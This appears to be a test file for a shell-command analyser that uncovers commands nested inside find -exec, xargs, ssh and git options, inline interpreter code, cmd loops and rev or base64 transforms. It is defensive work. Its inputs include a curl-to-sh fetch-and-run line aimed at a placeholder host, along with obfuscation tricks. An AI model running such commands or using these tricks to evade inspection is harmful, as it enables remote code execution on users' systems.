/**
 * Command lines carried inside another program's argument become nested layers: argv after
 * `find -exec` / xargs / wsl, option values (`ssh -o ProxyCommand=`, `git -c core.pager=`, `rsync -e`),
 * string literals of system-like calls in inline code, cmd's `for /f ('…')`, `rev`-reversed constants
 * and here-strings read by a transform. Spans stay exact where the text stands verbatim; work stays bounded.
 */
import { describe, expect, it } from 'vitest';
import { analyse } from './analyse';
import type { Document } from './document';
import type { Shell } from '../types';

const doc = (text: string, shell: Shell) => analyse(text, shell, shell === 'cmd' || shell === 'powershell' ? 'windows' : 'linux');
const layerTexts = (d: Document) => d.layers.filter((l) => l.depth > 0 && l.origin !== 'deobfuscated').map((l) => [l.shell, l.text]);
const spanOf = (d: Document, name: string) => {
  const c = d.commands.find((x) => x.name === name);
  return c ? d.original.slice(c.span.start, c.span.end) : undefined;
};

describe('argv carried by find -exec, xargs and wsl', () => {
  it('re-quotes the argv so that sh -c unwraps as written', () => {
    const d = doc(`find /tmp -maxdepth 0 -exec sh -c 'curl -s http://x.example/s | sh' \\; -print`, 'bash');
    expect(layerTexts(d)).toEqual([
      ['bash', "sh -c 'curl -s http://x.example/s | sh'"],
      ['sh', 'curl -s http://x.example/s | sh'],
    ]);
    expect(spanOf(d, 'curl')).toBe('curl -s http://x.example/s');
  });

  it('reads every -exec up to its terminator', () => {
    const d = doc(`find . -exec gzip {} \\; -execdir touch {} +`, 'bash');
    expect(layerTexts(d)).toEqual([
      ['bash', 'gzip {}'],
      ['bash', 'touch {}'],
    ]);
  });

  it("skips xargs' and wsl's own options", () => {
    // The shell lexer already reads xargs as a wrapper: `sh` is the command itself.
    expect(layerTexts(doc(`xargs -n 1 -P4 -0 sh -c 'id'`, 'bash'))).toEqual([['sh', 'id']]);
    expect(layerTexts(doc('wsl -d Ubuntu -u root -- uname -a', 'cmd'))[0]).toEqual(['sh', 'uname -a']);
    expect(layerTexts(doc('wsl --list --verbose', 'cmd'))).toEqual([]);
  });
});

describe('option values that are command lines', () => {
  it.each<[string, string]>([
    [`ssh -o ProxyCommand='nc -x proxy:1080 %h %p' host`, 'nc -x proxy:1080 %h %p'],
    [`ssh -oProxyCommand="nc %h %p" host`, 'nc %h %p'],
    [`ssh -o 'ProxyCommand nc %h %p' host`, 'nc %h %p'],
    [`git -c core.sshCommand='ssh -i k' fetch`, 'ssh -i k'],
    [`git -c alias.st='!git status -s' st`, 'git status -s'],
    [`rsync -e 'ssh -p 2222' -a a b`, 'ssh -p 2222'],
    [`rsync --rsh='ssh -p 2222' -a a b`, 'ssh -p 2222'],
    [`tar --checkpoint=1 --checkpoint-action=exec='echo hi' -cf a.tar d`, 'echo hi'],
    [`zip -T -TT 'unzip -tqq' a.zip f`, 'unzip -tqq'],
    [`vim -c ':!ls -la' f`, 'ls -la'],
    [`gdb -ex 'shell uname -a'`, 'uname -a'],
  ])('%s', (text, layer) => {
    const d = doc(text, 'bash');
    expect(layerTexts(d)[0]).toEqual(['sh', layer]);
    // The value stands verbatim in the text: the layer maps to it exactly.
    const first = d.layers.find((l) => l.depth === 1);
    const span = first!.toOriginal(0, first!.text.length);
    expect(d.original.slice(span.start, span.end)).toBe(layer);
  });

  it('leaves settings that run nothing alone', () => {
    for (const text of ['git -c user.name=x commit', 'tar -czf a.tgz d', `vim -c 'set nu' f`]) {
      expect(layerTexts(doc(text, 'bash'))).toEqual([]);
    }
    // An ssh option that runs nothing adds nothing; the remote command is read as the remote shell's line.
    expect(layerTexts(doc(`ssh -o StrictHostKeyChecking=no host 'uptime'`, 'bash'))).toEqual([['sh', 'uptime']]);
  });

  it('reads command variables assigned for git and rsync', () => {
    const d = doc(`GIT_SSH_COMMAND='ssh -i deploy_key' git pull`, 'bash');
    expect(layerTexts(d)).toEqual([['sh', 'ssh -i deploy_key']]);
    expect(spanOf(d, 'ssh')).toBe('ssh -i deploy_key');
    expect(layerTexts(doc(`$env:GIT_SSH_COMMAND = 'ssh -i k'`, 'powershell'))).toEqual([['cmd', 'ssh -i k']]);
  });
});

describe('system-like calls in inline code', () => {
  it.each<[string, string]>([
    [`python3 -c 'import os; os.system("ls -la")'`, 'ls -la'],
    [`python -c "import subprocess; subprocess.run('id', shell=True)"`, 'id'],
    [`perl -e 'system("uname -a")'`, 'uname -a'],
    [`perl -e 'print qx(uname -a)'`, 'uname -a'],
    [`ruby -e 'puts \`uname -a\`'`, 'uname -a'],
    [`php -r 'echo shell_exec("uname -a");'`, 'uname -a'],
    [`node -e 'require("child_process").execSync("uname -a")'`, 'uname -a'],
    [`awk 'BEGIN { system("uname -a") }'`, 'uname -a'],
  ])('%s', (text, layer) => {
    const d = doc(text, 'bash');
    expect(layerTexts(d)).toEqual([['sh', layer]]);
    expect(spanOf(d, 'uname') ?? spanOf(d, 'ls') ?? spanOf(d, 'id')).toBe(layer);
  });

  it('joins concatenated literals and decodes base64 the code decodes', () => {
    expect(layerTexts(doc(`python3 -c "import os; os.system('una' + 'me -a')"`, 'bash'))).toEqual([['sh', 'uname -a']]);
    const d = doc(`perl -MMIME::Base64 -e 'eval decode_base64("c3lzdGVtKCJ1bmFtZSAtYSIp")'`, 'bash');
    expect(layerTexts(d)).toEqual([['sh', 'uname -a']]);
    expect(d.notes.map((n) => n.kind)).toContain('base64_decoded');
  });

  it('uses cmd on Windows and ignores code that runs nothing', () => {
    expect(layerTexts(doc(`python -c "import os; os.system('dir /b')"`, 'cmd'))).toEqual([['cmd', 'dir /b']]);
    expect(layerTexts(doc(`python -c "import os; print(os.getcwd())"`, 'bash'))).toEqual([]);
    expect(layerTexts(doc(`awk '{print $1}' f`, 'bash'))).toEqual([]);
    expect(layerTexts(doc(`python3 -c 'os.system(cmd)'`, 'bash'))).toEqual([]);
  });

  it('reads a bounded number of calls per code text', () => {
    const code = 'import os;' + 'os.system("id");'.repeat(1000);
    expect(layerTexts(doc(`python3 -c '${code}'`, 'bash')).length).toBe(16);
  });
});

describe("cmd's for /f command", () => {
  it('is a nested cmd layer at its exact place', () => {
    const d = doc(`for /f "tokens=*" %%a in ('dir /b C:\\x') do echo %%a`, 'cmd');
    expect(layerTexts(d)).toEqual([['cmd', 'dir /b C:\\x']]);
    expect(spanOf(d, 'dir')).toBe('dir /b C:\\x');
  });

  it('pipes the output into cmd when the body runs the loop variable', () => {
    expect(layerTexts(doc(`for /f "delims=" %i in ('type cmds.txt') do %i`, 'cmd'))).toEqual([['cmd', 'type cmds.txt | cmd']]);
    expect(layerTexts(doc(`for /f %%i in ('type cmds.txt') do call %%i`, 'cmd'))).toEqual([['cmd', 'type cmds.txt | cmd']]);
  });

  it('reads backquotes only with usebackq, and file sets not at all', () => {
    expect(layerTexts(doc('for /f "usebackq" %i in (`hostname`) do echo %i', 'cmd'))).toEqual([['cmd', 'hostname']]);
    expect(layerTexts(doc(`for /f "usebackq" %i in ('literal text') do echo %i`, 'cmd'))).toEqual([]);
    expect(layerTexts(doc('for /f %i in (list.txt) do echo %i', 'cmd'))).toEqual([]);
    expect(layerTexts(doc('for %f in (*.txt) do type %f', 'cmd'))).toEqual([]);
    expect(layerTexts(doc(`for /f %i in ('') do %i`, 'cmd'))).toEqual([]);
  });
});

describe('transforms of constants fed to a shell', () => {
  it('reverses each line for rev, also read from a here-string', () => {
    expect(layerTexts(doc(`echo 'di | ohce' | rev | sh`, 'bash'))).toEqual([['sh', 'echo | id']]);
    expect(layerTexts(doc(`rev <<< 'a-emanu' | sh`, 'bash'))).toEqual([['sh', 'uname-a']]);
  });

  it('decodes base64 given as a here-string to the decoder', () => {
    expect(layerTexts(doc('base64 -d <<< dW5hbWUgLWE= | sh', 'bash'))).toEqual([['sh', 'uname -a']]);
    const d = doc('bash <<< $(base64 -d <<< dW5hbWUgLWE=)', 'bash');
    expect(d.commands.some((c) => c.name === 'uname' && c.depth > 0)).toBe(true);
  });
});

describe('bounds', () => {
  // Time is measured by `npm run bench:policy`; here: the layer budget caps the work and says so.
  it('stops making layers at the budget with many carried commands', () => {
    const text = 'find . ' + '-exec sh -c "id" \\; '.repeat(20_000);
    const d = doc(text, 'bash');
    expect(d.notes.some((n) => n.kind === 'budget_exhausted')).toBe(true);
  });
});
